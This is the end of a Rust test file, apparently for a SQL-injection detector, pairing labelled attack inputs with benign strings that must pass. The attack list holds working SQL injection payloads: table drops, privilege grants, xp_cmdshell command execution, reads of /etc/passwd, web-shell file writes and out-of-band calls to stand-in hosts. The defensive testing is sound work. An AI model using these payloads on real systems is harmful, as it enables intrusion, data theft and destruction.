        ("'; INSERT INTO users VALUES('x','y')--", "sqli.stacked"),
        ("\"; update accounts set balance=1e9 where \"1\"=\"1", "sqli.stacked"),
        ("1;shutdown--", "sqli.stacked"),
        ("'; DECLARE @q varchar(99)--", "sqli.stacked"),
        ("Robert'); DROP TABLE Students;--", "sqli.stacked"),
        ("; delete from sessions", "sqli.stacked"),
        ("1;select name from users--", "sqli.stacked"),
        // Time.
        ("' AND SLEEP(5)--", "sqli.time"),
        ("1 or sleep(5)#", "sqli.time"),
        ("'; WAITFOR DELAY '0:0:5'--", "sqli.time"),
        ("WAITFOR DELAY '00:00:05'", "sqli.time"),
        ("' || pg_sleep(10) --", "sqli.time"),
        ("BENCHMARK(5000000,MD5(1))", "sqli.time"),
        ("1 AND IF(1=1,SLEEP(5),0)", "sqli.time"),
        ("IF(ascii(1)>0,SLEEP(3),0)", "sqli.time"),
        ("(SELECT * FROM (SELECT(SLEEP(5)))a)", "sqli.time"),
        ("'XOR(if(now()=sysdate(),sleep(5),0))XOR'", "sqli.time"),
        ("sleep(5)#", "sqli.time"),
        ("1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--", "sqli.time"),
        ("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--", "sqli.time"),
        ("'+(select 1 from (select sleep(5))x)+'", "sqli.time"),
        ("' and randomblob(900000000)--", "sqli.time"),
        // Error based.
        ("' AND extractvalue(1,concat(0x7e,(select version())))--", "sqli.error"),
        ("1 and updatexml(1,concat(0x7e,user()),1)", "sqli.error"),
        ("' AND 1=CAST((SELECT version()) AS INT)--", "sqli.error"),
        ("1 AND 1=CONVERT(INT,(SELECT @@version))", "sqli.error"),
        ("' and 1=(select current_user)::int--", "sqli.error"),
        (
            "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM t GROUP BY x)a)",
            "sqli.error",
        ),
        // Out of band, files, commands.
        ("'; EXEC xp_cmdshell('whoami')--", "sqli.oob"),
        ("1; exec master..xp_dirtree '\\\\x.example\\a'", "sqli.oob"),
        ("' UNION SELECT LOAD_FILE('/etc/passwd')--", "sqli.oob"),
        ("' union select 1,'<?php ?>' into outfile '/var/www/s.php'--", "sqli.oob"),
        ("' || UTL_HTTP.REQUEST('http://x.example/'||user) || '", "sqli.oob"),
        ("EXEC xp_cmdshell 'dir'", "sqli.oob"),
        ("'; COPY t FROM PROGRAM 'id'--", "sqli.oob"),
        // Catalogs.
        ("' AND (SELECT COUNT(*) FROM information_schema.tables)>0--", "sqli.schema"),
        ("' and exists(select * from sqlite_master)--", "sqli.schema"),
        ("1 and 1=(select top 1 name from sysobjects)", "sqli.schema"),
        ("' or 1=(select count(*) from pg_catalog.pg_tables)--", "sqli.schema"),
        // String building.
        ("'||CHR(65)||CHR(66)||'", "sqli.function"),
        ("' + CHAR(0x41) + '", "sqli.function"),
        ("'+(SELECT TOP 1 password FROM users)+'", "sqli.function"),
        // Column counting.
        ("' ORDER BY 5--", "sqli.column_probe"),
        ("1 order by 10", "sqli.column_probe"),
        ("1' GROUP BY 1,2,3#", "sqli.column_probe"),
        // Comment cuts.
        ("admin'--", "sqli.comment_cut"),
        ("admin'#", "sqli.comment_cut"),
        ("admin'/*", "sqli.comment_cut"),
        ("admin' -- -", "sqli.comment_cut"),
        ("admin\")--", "sqli.comment_cut"),
        ("root');--", "sqli.comment_cut"),
        // Constants anywhere.
        ("title OR 1=1 or x", "sqli.tautology"),
        ("SELECT * FROM users WHERE id = 1 OR 1=1", "sqli.tautology"),
        // Encodings the caller leaves: `+` for space outside query strings, separators.
        ("'+OR+1=1--", "sqli.tautology"),
        ("1+UNION+SELECT+1,2--", "sqli.union"),
        ("'\u{a0}or\u{a0}'1'='1", "sqli.tautology"),
        ("'\u{fffd}or\u{fffd}'1'='1", "sqli.tautology"),
        ("'\u{2028}or\u{2028}1=1--", "sqli.tautology"),
        // More shapes.
        ("' group by users.id having 1=1--", "sqli.tautology"),
        ("declare @s varchar(99) set @s=0x73656c656374 exec(@s)", "sqli.stacked"),
        ("' or true", "sqli.tautology"),
        ("1 AND 2947=2948", "sqli.tautology"),
        ("' or b'1'=b'1'#", "sqli.tautology"),
        ("'; GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'--", "sqli.stacked"),
        ("' AND EXP(~(SELECT * FROM (SELECT USER())x))--", "sqli.error"),
        ("' UNION SELECT user, password FROM mysql.user#", "sqli.union"),
        ("' AND 1=(SELECT COUNT(*) FROM sys.tables)--", "sqli.schema"),
        ("SLEEP(5)/*' or SLEEP(5) or '\" or SLEEP(5) or \"*/", "sqli.time"),
    ];

    /// Values an API sees every day that must pass.
    const LEGITIMATE: &[&str] = &[
        "Please select the option that drops the least; update me or call",
        "I'd like to union the two lists",
        "O'Reilly's book -- great read",
        "Rock 'n' roll",
        "It's 5 o'clock",
        "5' 11\"",
        "where is the order from yesterday?",
        "Select all that apply",
        "SELECT name FROM users",
        "SELECT a, b FROM t WHERE id = 1 UNION SELECT a, b FROM u",
        "How do I use UNION SELECT in postgres?",
        "SELECT * FROM information_schema.tables WHERE table_schema = 'public'",
        "Drop me a line; I'll update the table or union rep",
        "select the best option from the list",
        "O'Brien",
        "D'Angelo and O'Neil",
        "Students' and teachers' scores",
        "the players' or coaches' votes",
        "Chris' or Jess' car",
        "+1 (555) 010-9999",
        "ORD-1",
        "ORD-2024-0001",
        "# Heading\n\nSome text -- more text\n\n## Next",
        "- item one\n- item two -- with a dash",
        "1) Select all that apply 2) submit",
        "1. Select the plan; 2. Pay",
        "title:foo AND (bar OR baz) -qux",
        "price>10",
        "a|b",
        "\"machine learning\" OR \"deep learning\"",
        "title:\"foo\" AND year>2020",
        "2*(3+4)",
        "10 - count(*)",
        "x = 1 and y = 2",
        "ana@example.com",
        "ana.o'hara+test@example.co.uk",
        "2024-01-05",
        "2024-01-05T10:00:00Z",
        "123e4567-e89b-12d3-a456-426614174000",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-DEF_ghi",
        "SGVsbG8sIFdvcmxkIQ==",
        "Hello {{name}}",
        "<p>Hello <b>world</b></p>",
        "<a href=\"https://example.com/a?b=c&d=e\">link</a>",
        "<img src=\"https://cdn.example.com/x.png\" alt=\"O'Brien's photo\">",
        "<ul><li>one</li><li>two</li></ul>",
        "docs/guide/intro.md",
        "../images/logo.png",
        "C:\\Users\\ana\\report.pdf",
        "https://hooks.example.com/callback?id=42&sig=abc",
        "{\"$schema\": \"https://json-schema.org/draft/2020-12/schema\", \"$ref\": \"#/defs/a\"}",
        "{\"query\": \"SELECT name FROM users\", \"limit\": 10}",
        "await sleep(1000);",
        "time.sleep(5)",
        "const p = sleep(500)",
        "Thread.sleep(100); // wait",
        "grep -r \"foo\" . | sort | uniq -c",
        "ls -la; rm -rf build",
        "if (a || b) { return 1; }",
        "x = a || 1 == 1",
        "echo 'done' && exit 0",
        "print('hello')  # greet",
        "Don't--really",
        "see issue '#42'",
        "\"#fff\"",
        "'--'",
        "Tom's & Jerry's",
        "The 'fast' or 'slow' mode",
        "I said 'no' -- twice",
        "Mary's order by Friday",
        "customers' order by 5pm",
        "5 or 6",
        "3 or more",
        "1 and 2",
        "Sleep (8) hours a night is healthy",
        "update me or call me",
        "I'm 5'11\" and 80kg",
        "Can you DROP the price; and UPDATE me?",
        "Use EXEC to run the procedure",
        "how to enable xp_cmdshell safely?",
        "a -- b",
        "--verbose --dry-run",
        "/* comment */ hello",
        "It's the users' union; select a rep",
        "Union Street 5, 2nd floor",
        "or maybe not",
        "and so on",
        "AND (bar OR baz)",
        "Order by: date",
        "Reply #1 and #2",
        "50% off; today only",
        "key=value; other=thing",
        "Q&A: what's new?",
        "[link](https://example.com)",
        "`SELECT 1` is a test query",
        "rating >= 4 AND price < 100",
        "$ref",
        "Total: $1,234.56",
        "😀 let's go! 🚀",
        "ÅSELECT 'ü' OR 'é'",
        "1 union of states",
        "customers' or null and void",
        "users' -- Friday",
        "James' order by Friday",
        "the kids' and 2 teachers",
        "Thanks,\n-- \nAna\nSupport",
        "'Hello' or 'Hi'",
        "'s-Hertogenbosch",
        "6'2\" and 80kg",
        "'=1+1",
        "d['key'] or default",
        "'use strict';",
        "3 < 5 and 5 > 3",
        "C++ or C#",
        "abc+def/ghi==",
    ];

    #[test]
    fn attacks_are_detected_under_their_rule() {
        let mut failures = Vec::new();
        for (value, rule) in ATTACKS {
            match detect(value) {
                Some(found) if found.rule == *rule => {
                    assert!(value.get(found.span.clone()).is_some(), "bad span for {value:?}");
                }
                other => failures.push(format!("{value:?}: expected {rule}, got {other:?}")),
            }
        }
        assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
        assert!(ATTACKS.len() >= 60);
    }

    #[test]
    fn legitimate_values_pass() {
        let failures: Vec<String> = LEGITIMATE
            .iter()
            .filter_map(|value| detect(value).map(|found| format!("{value:?}: {found:?}")))
            .collect();
        assert!(failures.is_empty(), "{} false positives:\n{}", failures.len(), failures.join("\n"));
        assert!(LEGITIMATE.len() >= 80);
    }

    #[test]
    fn evidence_span_points_at_the_injection() {
        let value = "admin' OR 1=1--";
        let found = detect(value).unwrap();
        assert_eq!(&value[found.span], "' OR 1=1");
        let value = "-1 UNION SELECT 1,2";
        let found = detect(value).unwrap();
        assert_eq!(&value[found.span], value);
    }

    #[test]
    fn lexer_treats_comments_and_whitespace_as_separators() {
        let kinds = |value: &str| {
            Significant::new(value, None)
                .map(|tok| value[tok.start..tok.end].to_ascii_uppercase())
                .collect::<Vec<_>>()
        };
        assert_eq!(kinds("UNION/**/SELECT"), ["UNION", "SELECT"]);
        assert_eq!(kinds("UNION\u{0b}SELECT"), ["UNION", "SELECT"]);
        assert_eq!(kinds("/*!50000UNION*/ /*!SELECT*/"), ["UNION", "SELECT"]);
        assert_eq!(kinds("UNION#x\nSELECT"), ["UNION", "SELECT"]);
        assert_eq!(
            kinds("'it''s' \"a\\\"b\" 0x1F 1e3 @@version `c`"),
            ["'IT''S'", "\"A\\\"B\"", "0X1F", "1E3", "@@VERSION", "`C`"]
        );
    }

    #[test]
    fn quoted_context_starts_inside_a_string() {
        let toks: Vec<Token> = Significant::new("ab'c", Some(b'\'')).collect();
        assert_eq!(toks.len(), 2);
        assert_eq!(toks[0].kind, Kind::Str { literal: true, closed: true });
        assert_eq!((toks[0].start, toks[0].end), (0, 3));
        let toks: Vec<Token> = Significant::new("no quote", Some(b'\'')).collect();
        assert_eq!(toks[0].kind, Kind::Str { literal: false, closed: false });
    }

    #[test]
    fn long_and_pathological_values_stay_fast_and_quiet() {
        for unit in ["[", "`", "/*", "(", "'", "\"", "((((", "a' or ", "--", "@@", "0x", "\\"] {
            let value = unit.repeat(20_000);
            let _ = detect(&value);
        }
        let prose = "It's a long story, and the users' union -- or not -- select the best. ".repeat(500);
        assert_eq!(rule_of(&prose), None);
    }

    proptest! {
        #[test]
        fn never_panics_and_spans_stay_inside(value in any::<String>()) {
            if let Some(found) = detect(&value) {
                prop_assert!(found.span.start <= found.span.end);
                prop_assert!(value.get(found.span.clone()).is_some());
            }
        }

        #[test]
        fn sql_shaped_noise_never_panics(value in "[a-zA-Z0-9 '\"()=;,#*/!@`\\[\\]|&<>.-]{0,80}") {
            if let Some(found) = detect(&value) {
                prop_assert!(value.get(found.span.clone()).is_some());
            }
        }
    }
}
